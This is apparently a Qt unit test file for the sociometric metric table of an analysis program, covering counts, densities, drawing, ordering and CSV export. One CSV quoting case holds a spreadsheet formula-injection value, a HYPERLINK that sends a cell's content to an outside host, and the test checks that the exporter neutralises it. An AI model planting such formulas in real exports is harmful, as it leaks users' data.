#include "analyses/DGraph.h"
#include "analyses/DPicture.h"
#include "document/DTest.h"
#include "lang/DLanguage.h"
#include "model/DFileStream.h"
#include "tests/TestSupport.h"

#include <QBuffer>

namespace
{
using TestSupport::ErrorOf;

// Five subjects; question 1 positive, question 2 negative, question 3
// positive but not selected for the metric table; three answers each.
//   acceptances: 1 -> 2, 3 -> 2, 1 -> 3, 3 -> 2 (again, rank 2), 5 -> 4 in all three ranks
//   rejections:  2, 3 and 4 -> 1; 2 -> 5
//   not counted: 4 -> 1 and 4 -> 2 in question 3
struct Small
{
    DTest test;
    DGraph& graph = test.graph;

    Small()
    {
        test.ques.List().SetSize(3, false);
        test.answ.num.SetValue(3, false);
        test.subj.List().SetSize(5, false);
        test.ques.List().GetSelected(1).type.SetValue(0, false);
        test.ques.List().GetSelected(2).graphMet.ToGraph(false);
        const char* names[][2] = {
            {"Rossi", "Anna"}, {"Bianchi", "Luca"}, {"Verdi", "Sara"}, {"Neri", "Paolo"}, {"Gallo", "Ugo"}};
        for (int i = 0; i < 5; ++i)
        {
            test.subj.List().GetSelected(i).appe.Surname().SetText(QString::fromUtf8(names[i][0]));
            test.subj.List().GetSelected(i).appe.Name().SetText(QString::fromUtf8(names[i][1]));
        }
        auto choose = [&](qint32 q, qint32 r, qint32 s, qint32 c) { test.desi.SetDesi(q, r, s, c); };
        choose(1, 1, 1, 2);
        choose(1, 1, 3, 2);
        choose(1, 2, 1, 3);
        choose(1, 2, 3, 2);
        choose(1, 1, 5, 4);
        choose(1, 2, 5, 4);
        choose(1, 3, 5, 4);
        choose(2, 1, 2, 1);
        choose(2, 1, 3, 1);
        choose(2, 1, 4, 1);
        choose(2, 2, 2, 5);
        choose(3, 1, 4, 1);
        choose(3, 2, 4, 2);
    }

    QList<qint32> Order() const
    {
        QList<qint32> ids;
        for (const DGraphListSubj& entry : graph.Subjects())
            ids << entry.Subj().id.GetValue();
        return ids;
    }
};

QStringList Texts(const std::vector<DGraphMet::Cell>& cells)
{
    QStringList texts;
    for (const DGraphMet::Cell& cell : cells)
        texts << cell.text;
    return texts;
}

const QRgb kBlack = qRgb(0, 0, 0);
const QRgb kGrey = qRgb(128, 128, 128);
const QRgb kWhite = qRgb(255, 255, 255);
} // namespace

class TestDGraphMet : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void indicesAndRows();
    void pictureGeometry();
    void order_data();
    void order();
    void unknownOrderFails();
    void singleSubjectHasNoDensity();
    void selfChoiceRefused();
    void csvQuoting_data();
    void csvQuoting();
    void csvFileAndHeader();
    void csvPreparesItsOwnList();
    void rankWeightedColumns();
    void orderOption();
    void fileBlock();
};

void TestDGraphMet::indicesAndRows()
{
    Small s;
    QImage picture = DPicture::Make(1000, 1000);
    s.graph.met.Draw(picture);
    QCOMPARE(s.Order(), (QList<qint32>{1, 2, 3, 4, 5}));

    // identifier, surname, name, then value and density of acceptance
    // received and given, rejection received and given
    const QStringList expected[] = {
        {"1", "Rossi", "Anna", "0", "0.000", "2", "0.500", "3", "0.750", "0", "0.000"},
        {"2", "Bianchi", "Luca", "2", "0.500", "0", "0.000", "0", "0.000", "2", "0.500"},
        // accepted by subject 1 once; chose subject 2 in two ranks: one subject
        {"3", "Verdi", "Sara", "1", "0.250", "1", "0.250", "0", "0.000", "1", "0.250"},
        // accepted three times by subject 5 alone; its question 3 choices don't count
        {"4", "Neri", "Paolo", "1", "0.250", "0", "0.000", "0", "0.000", "1", "0.250"},
        {"5", "Gallo", "Ugo", "0", "0.000", "1", "0.250", "1", "0.250", "0", "0.000"},
    };
    for (int k = 1; k <= 5; ++k)
    {
        const std::vector<DGraphMet::Cell> cells = DGraphMet::RowCells(s.graph.Subjects()[k - 1].Subj(), 40 + 20 * k);
        QCOMPARE(Texts(cells), expected[k - 1]);
        // Row k lies between y = 40 + 20k and 60 + 20k.
        for (const DGraphMet::Cell& cell : cells)
        {
            QCOMPARE(cell.rect.top(), 40 + 20 * k);
            QCOMPARE(cell.rect.top() + cell.rect.height(), 60 + 20 * k);
        }
    }
    const std::vector<DGraphMet::Cell> first = DGraphMet::RowCells(s.graph.Subjects()[0].Subj(), 60);
    QCOMPARE(first[0].rect, QRect(5, 60, 40, 20));
    QCOMPARE(first[0].align, Qt::AlignRight);
    QCOMPARE(first[10].rect, QRect(605, 60, 40, 20));
    QCOMPARE(first[10].align, Qt::AlignLeft);
}

void TestDGraphMet::pictureGeometry()
{
    Small s;
    s.test.subj.List().SetSize(10, true);
    QImage picture = DPicture::Make(1000, 1000);
    s.graph.met.Draw(picture);
    const int b = 260;
    QCOMPARE(picture.size(), QSize(651, b + 1));

    // Black border on all four sides, corners included.
    for (const QPoint& p :
         {QPoint(0, 0), QPoint(650, 0), QPoint(650, b), QPoint(0, b), QPoint(325, b), QPoint(650, 130), QPoint(0, 10)})
        QCOMPARE(picture.pixel(p), kBlack);
    // Grey rules: columns from their own top, header lines, row lines.
    QCOMPARE(picture.pixel(50, 150), kGrey);
    QCOMPARE(picture.pixel(450, 5), kGrey);
    QCOMPARE(picture.pixel(350, 25), kGrey);
    QCOMPARE(picture.pixel(350, 15), kWhite); // the "Given" column starts at y = 20
    QCOMPARE(picture.pixel(300, 45), kGrey);
    QCOMPARE(picture.pixel(300, 35), kWhite);
    QCOMPARE(picture.pixel(252, 20), kGrey);
    QCOMPARE(picture.pixel(248, 20), kWhite); // header lines start at x = 250
    QCOMPARE(picture.pixel(252, 40), kGrey);
    QCOMPARE(picture.pixel(252, 60), kGrey);
    QCOMPARE(picture.pixel(252, 240), kGrey);
    QCOMPARE(picture.pixel(2, 70), kWhite);
    // Lines leave out their last point: the border stays black where the
    // column and row lines end on it.
    QCOMPARE(picture.pixel(50, b), kBlack);
    QCOMPARE(picture.pixel(600, b), kBlack);
    QCOMPARE(picture.pixel(650, 80), kBlack);
    // ...but where they start on it, the grey line is drawn over it.
    QCOMPARE(picture.pixel(0, 80), kGrey);
}

void TestDGraphMet::order_data()
{
    QTest::addColumn<int>("order");
    QTest::addColumn<QList<qint32>>("ids");
    // Subjects with equal counts keep their identifier order.
    QTest::newRow("as in list") << 0 << QList<qint32>{1, 2, 3, 4, 5};
    QTest::newRow("acceptance received") << 1 << QList<qint32>{2, 3, 4, 1, 5};
    QTest::newRow("acceptance given") << 2 << QList<qint32>{1, 3, 5, 2, 4};
    QTest::newRow("rejection received") << 3 << QList<qint32>{1, 5, 2, 3, 4};
    QTest::newRow("rejection given") << 4 << QList<qint32>{2, 3, 4, 1, 5};
}

void TestDGraphMet::order()
{
    QFETCH(int, order);
    QFETCH(QList<qint32>, ids);
    Small s;
    s.graph.met.order.SetValue(order, true);
    QImage picture = DPicture::Make(1000, 1000);
    s.graph.met.Draw(picture);
    QCOMPARE(s.Order(), ids);

    QStringList lines;
    s.graph.met.ToMemoCsv(lines);
    QCOMPARE(lines.size(), 6);
    for (int i = 0; i < ids.size(); ++i)
        QVERIFY(lines[i + 1].startsWith(QString::number(ids[i]) + QLatin1Char(',')));
}

void TestDGraphMet::unknownOrderFails()
{
    Small s;
    s.graph.met.order.SetValue(5, false);
    QImage picture = DPicture::Make(1000, 1000);
    QCOMPARE(ErrorOf([&] { s.graph.met.Draw(picture); }),
             DLanguage::Active().GetErr(50020, {"DGraphListSubj::operator<()"}));
    QCOMPARE(picture.size(), QSize(1000, 1000));
    QCOMPARE(picture.pixel(500, 500), kWhite);
}

void TestDGraphMet::singleSubjectHasNoDensity()
{
    Small s;
    QImage picture = DPicture::Make(1000, 1000);
    s.graph.met.Draw(picture);
    QCOMPARE(s.test.subj.List().GetSelected(0).acceptanceGiven.GetDensity(), 0.5);

    // Subject 1 keeps its record; alone it has no other subject to choose.
    s.test.subj.List().SetSize(1, true);
    s.graph.met.Draw(picture);
    QCOMPARE(picture.size(), QSize(651, 81));
    QCOMPARE(Texts(DGraphMet::RowCells(s.graph.Subjects()[0].Subj(), 60)),
             (QStringList{"1", "Rossi", "Anna", "0", "0.000", "0", "0.000", "0", "0.000", "0", "0.000"}));
}

void TestDGraphMet::selfChoiceRefused()
{
    Small s;
    s.test.desi.SetDesi(1, 3, 2, 2);
    QImage picture = DPicture::Make(1000, 1000);
    picture.fill(Qt::black);
    const QString drawError = ErrorOf([&] { s.graph.met.Draw(picture); });
    QCOMPARE(drawError, DLanguage::Active().GetErr(50090, {2}));
    QCOMPARE(picture.size(), QSize(1000, 1000));
    QCOMPARE(picture.pixel(0, 0), kWhite);
    QCOMPARE(picture.pixel(999, 999), kWhite);

    QStringList lines{"untouched"};
    QCOMPARE(ErrorOf([&] { s.graph.met.ToMemoCsv(lines); }), drawError);
    QCOMPARE(lines, QStringList{"untouched"});
}

void TestDGraphMet::csvQuoting_data()
{
    QTest::addColumn<QString>("surname");
    QTest::addColumn<QString>("field");
    QTest::newRow("plain") << "Rossi"
                           << "Rossi";
    QTest::newRow("accents") << QString::fromUtf8("Ferrà") << QString::fromUtf8("Ferrà");
    QTest::newRow("empty") << ""
                           << "";
    QTest::newRow("comma") << "Rossi, Jr."
                           << "\"Rossi, Jr.\"";
    QTest::newRow("quote") << "O\"Neil"
                           << "\"O\"\"Neil\"";
    // A name's line break, which a file may hold, is quoted; names hold no
    // other control character, so none can reach the CSV.
    QTest::newRow("line feed") << "Ro\nssi"
                               << "\"Ro\nssi\"";
    QTest::newRow("carriage return") << "Ro\rssi"
                                     << "\"Ro\rssi\"";
    QTest::newRow("NUL") << QString::fromUtf16(u"Ro\0ssi", 6) << "Rossi";
    QTest::newRow("right-to-left override") << QString::fromUtf16(u"\u202Eevil") << "evil";
    QTest::newRow("spaces stay") << " Rossi "
                                 << " Rossi ";
    // A name a spreadsheet would run as a formula is shown as text.
    QTest::newRow("formula") << "=HYPERLINK(\"http://x/?\"&B3,\"Click\")"
                             << "\"'=HYPERLINK(\"\"http://x/?\"\"&B3,\"\"Click\"\")\"";
}

void TestDGraphMet::csvQuoting()
{
    QFETCH(QString, surname);
    QFETCH(QString, field);
    Small s;
    s.test.subj.List().GetSelected(1).appe.Surname().SetText(surname);
    QStringList lines;
    s.graph.met.ToMemoCsv(lines);
    QCOMPARE(lines[2], "2," + field + ",Luca,2,0.500,0,0.000,0,0.000,2,0.500");
}

void TestDGraphMet::csvFileAndHeader()
{
    Small s;
    s.test.subj.List().SetSize(3, true);
    s.test.subj.List().GetSelected(2).appe.Name().SetText(QString::fromUtf8("Élodie"));
    QStringList lines;
    s.graph.met.ToMemoCsv(lines);
    QCOMPARE(lines.size(), 4);
    QCOMPARE(lines[0], QStringLiteral("N.,Surname,Name,Acceptance Received Value,Acceptance Received Density,"
                                      "Acceptance Given Value,Acceptance Given Density,Rejection Received Value,"
                                      "Rejection Received Density,Rejection Given Value,Rejection Given Density"));
    // Densities over the two other subjects.
    QCOMPARE(lines[1], QStringLiteral("1,Rossi,Anna,0,0.000,2,1.000,2,1.000,0,0.000"));

    const QByteArray bytes = DGraphMet::CsvBytes(lines);
    QVERIFY(bytes.startsWith("N.,Surname")); // no byte-order mark
    // UTF-8, and the last line is ended too.
    QVERIFY(bytes.endsWith("\r\n3,Verdi,\xc3\x89lodie,1,0.500,1,0.500,0,0.000,1,0.500\r\n"));
    QCOMPARE(bytes.count("\r\n"), 4);
    QCOMPARE(bytes.count('\n'), 4);

    DLanguage italian(DLanguage::Italian);
    s.graph.met.ToMemoCsv(lines);
    QCOMPARE(lines[0], QString::fromUtf8("N°,Cognome,Nome,Accettazioni Ricevuti Valore,Accettazioni Ricevuti Densità,"
                                         "Accettazioni Dati Valore,Accettazioni Dati Densità,Rifiuti Ricevuti Valore,"
                                         "Rifiuti Ricevuti Densità,Rifiuti Dati Valore,Rifiuti Dati Densità"));
}

void TestDGraphMet::csvPreparesItsOwnList()
{
    Small s;
    s.graph.met.order.SetValue(3, false);
    // What another analysis left: other subjects, another order, another tag.
    s.graph.Subjects().clear();
    for (qint32 i = 4; i >= 0; --i)
    {
        s.graph.Subjects().emplace_back(s.graph, s.test.subj.List().GetSelected(i));
        s.graph.Subjects().back().SortGraphBar();
    }
    s.test.desi.SetDesi(2, 3, 5, 3); // the answers changed since the last drawing

    QStringList lines;
    s.graph.met.ToMemoCsv(lines);
    QCOMPARE(lines.size(), 6);
    QVERIFY(lines[1].startsWith("1,"));
    QVERIFY(lines[2].startsWith("3,Verdi,Sara,1,0.250,1,0.250,1,0.250,"));
}

void TestDGraphMet::rankWeightedColumns()
{
    // With three answers a choice scores 3, 2 or 1 by rank; a count of
    // different subjects takes each pair once, at its best rank.
    //   acceptance received: 2 <- 1 (rank 1: 3) and 3 (ranks 1 and 2: 3) = 6; 3 <- 1 (rank 2) = 2;
    //                        4 <- 5 (ranks 1, 2, 3: 3) = 3
    //   acceptance given:    1 -> 2 (3) and 3 (2) = 5; 3 -> 2 = 3; 5 -> 4 = 3 (question 3 not counted)
    //   rejection received:  1 <- 2, 3, 4 (rank 1 each) = 9; 5 <- 2 (rank 2) = 2
    //   rejection given:     2 -> 1 (3) and 5 (2) = 5; 3 -> 1 = 3; 4 -> 1 = 3
    Small s;
    s.graph.weight.SetValue(DGraphWeight::Rank, true);
    QImage picture = DPicture::Make(1000, 1000);
    s.graph.met.Draw(picture);
    // Four groups of value 50, weighted 60 and density 50 after the names.
    QCOMPARE(picture.size(), QSize(250 + 4 * 160 + 1, 160 + 1));
    QCOMPARE(picture.pixel(300, 90), kGrey); // value | weighted
    QCOMPARE(picture.pixel(360, 90), kGrey); // weighted | density
    QCOMPARE(picture.pixel(410, 90), kGrey); // acceptance received | given
    QCOMPARE(picture.pixel(570, 5), kGrey);  // acceptance | rejection
    QCOMPARE(picture.pixel(360, 30), kWhite);

    const QStringList header = Texts(DGraphMet::HeaderCells(true));
    QCOMPARE(header.mid(3, 5), (QStringList{"Acceptance", "Received", "Value", "Weighted", "Density"}));
    QCOMPARE(header.size(), 3 + 2 + 4 * 4);

    // value, weighted, density of acceptance received and given, rejection received and given
    const QStringList rows[] = {
        {"1", "Rossi", "Anna", "0", "0", "0.000", "2", "5", "0.500", "3", "9", "0.750", "0", "0", "0.000"},
        {"2", "Bianchi", "Luca", "2", "6", "0.500", "0", "0", "0.000", "0", "0", "0.000", "2", "5", "0.500"},
        {"3", "Verdi", "Sara", "1", "2", "0.250", "1", "3", "0.250", "0", "0", "0.000", "1", "3", "0.250"},
        {"4", "Neri", "Paolo", "1", "3", "0.250", "0", "0", "0.000", "0", "0", "0.000", "1", "3", "0.250"},
        {"5", "Gallo", "Ugo", "0", "0", "0.000", "1", "3", "0.250", "1", "2", "0.250", "0", "0", "0.000"},
    };
    QStringList lines;
    s.graph.met.ToMemoCsv(lines);
    QCOMPARE(lines.size(), 6);
    QVERIFY(lines[0].startsWith("N.,Surname,Name,Acceptance Received Value,Acceptance Received Weighted,"
                                "Acceptance Received Density,Acceptance Given Value,"));
    for (int k = 0; k < 5; ++k)
    {
        const std::vector<DGraphMet::Cell> cells = DGraphMet::RowCells(s.graph.Subjects()[k].Subj(), 60, true);
        QCOMPARE(Texts(cells), rows[k]);
        QCOMPARE(lines[k + 1], rows[k].join(','));
    }
    const std::vector<DGraphMet::Cell> first = DGraphMet::RowCells(s.graph.Subjects()[0].Subj(), 60, true);
    QCOMPARE(first[4].rect, QRect(305, 60, 50, 20));
    QCOMPARE(first[4].align, Qt::AlignRight);
    QCOMPARE(first.back().rect, QRect(845, 60, 40, 20));

    // Back to plain counts, the table is the plain one again.
    s.graph.weight.SetValue(DGraphWeight::Plain, true);
    s.graph.met.Draw(picture);
    QCOMPARE(picture.size(), QSize(651, 161));
    s.graph.met.ToMemoCsv(lines);
    QCOMPARE(lines[1], QStringLiteral("1,Rossi,Anna,0,0.000,2,0.500,3,0.750,0,0.000"));
}

void TestDGraphMet::orderOption()
{
    Small s;
    DGraphMetOrder& order = s.graph.met.order;
    QVERIFY(order.IsAsInList());
    QVERIFY(!s.graph.met.IsChangedByUser());

    QCOMPARE(order.Texts().size(), 5);
    QCOMPARE(order.Texts().at(0), QStringLiteral("As in the list"));
    QCOMPARE(order.Texts().at(4), QStringLiteral("Rejection given"));

    order.Choose(3);
    QVERIFY(order.IsRejectionInDegree());
    QVERIFY(s.graph.met.IsChangedByUser());
    QCOMPARE(order.GetValue(), 3);
    // No selection (-1) is no choice.
    order.Choose(-1);
    QCOMPARE(order.GetValue(), 3);

    // A value from a damaged file is none of the list's orders.
    order.SetValue(9, false);
    QVERIFY(!order.IsAsInList() && !order.IsRejectionOutDegree());
}

void TestDGraphMet::fileBlock()
{
    Small s;
    s.graph.met.order.SetValue(4, true);
    QBuffer buffer;
    buffer.open(QIODevice::ReadWrite);
    DFileStream stream(&buffer);
    s.graph.met.ToFile(stream);
    QCOMPARE(buffer.data(), QByteArray(1, '\x04'));
    QVERIFY(!s.graph.met.IsChangedByUser());

    Small other;
    other.graph.met.order.SetValue(2, true);
    stream.Seek(0);
    other.graph.met.FromFile(stream, 1);
    QCOMPARE(other.graph.met.order.GetValue(), 2);
    QCOMPARE(stream.Pos(), 0);
    other.graph.met.FromFile(stream, 2);
    QCOMPARE(other.graph.met.order.GetValue(), 4);
    QVERIFY(other.graph.met.IsChangedByUser()); // reading leaves the change state alone

    stream.Seek(1);
    QCOMPARE(ErrorOf([&] { other.graph.met.FromFile(stream, 2); }),
             DLanguage::Active().GetErr(60010, {"DElemInt8::FromFile()"}));
}

KC_TEST_MAIN(TestDGraphMet)
#include "test_DGraphMet.moc"
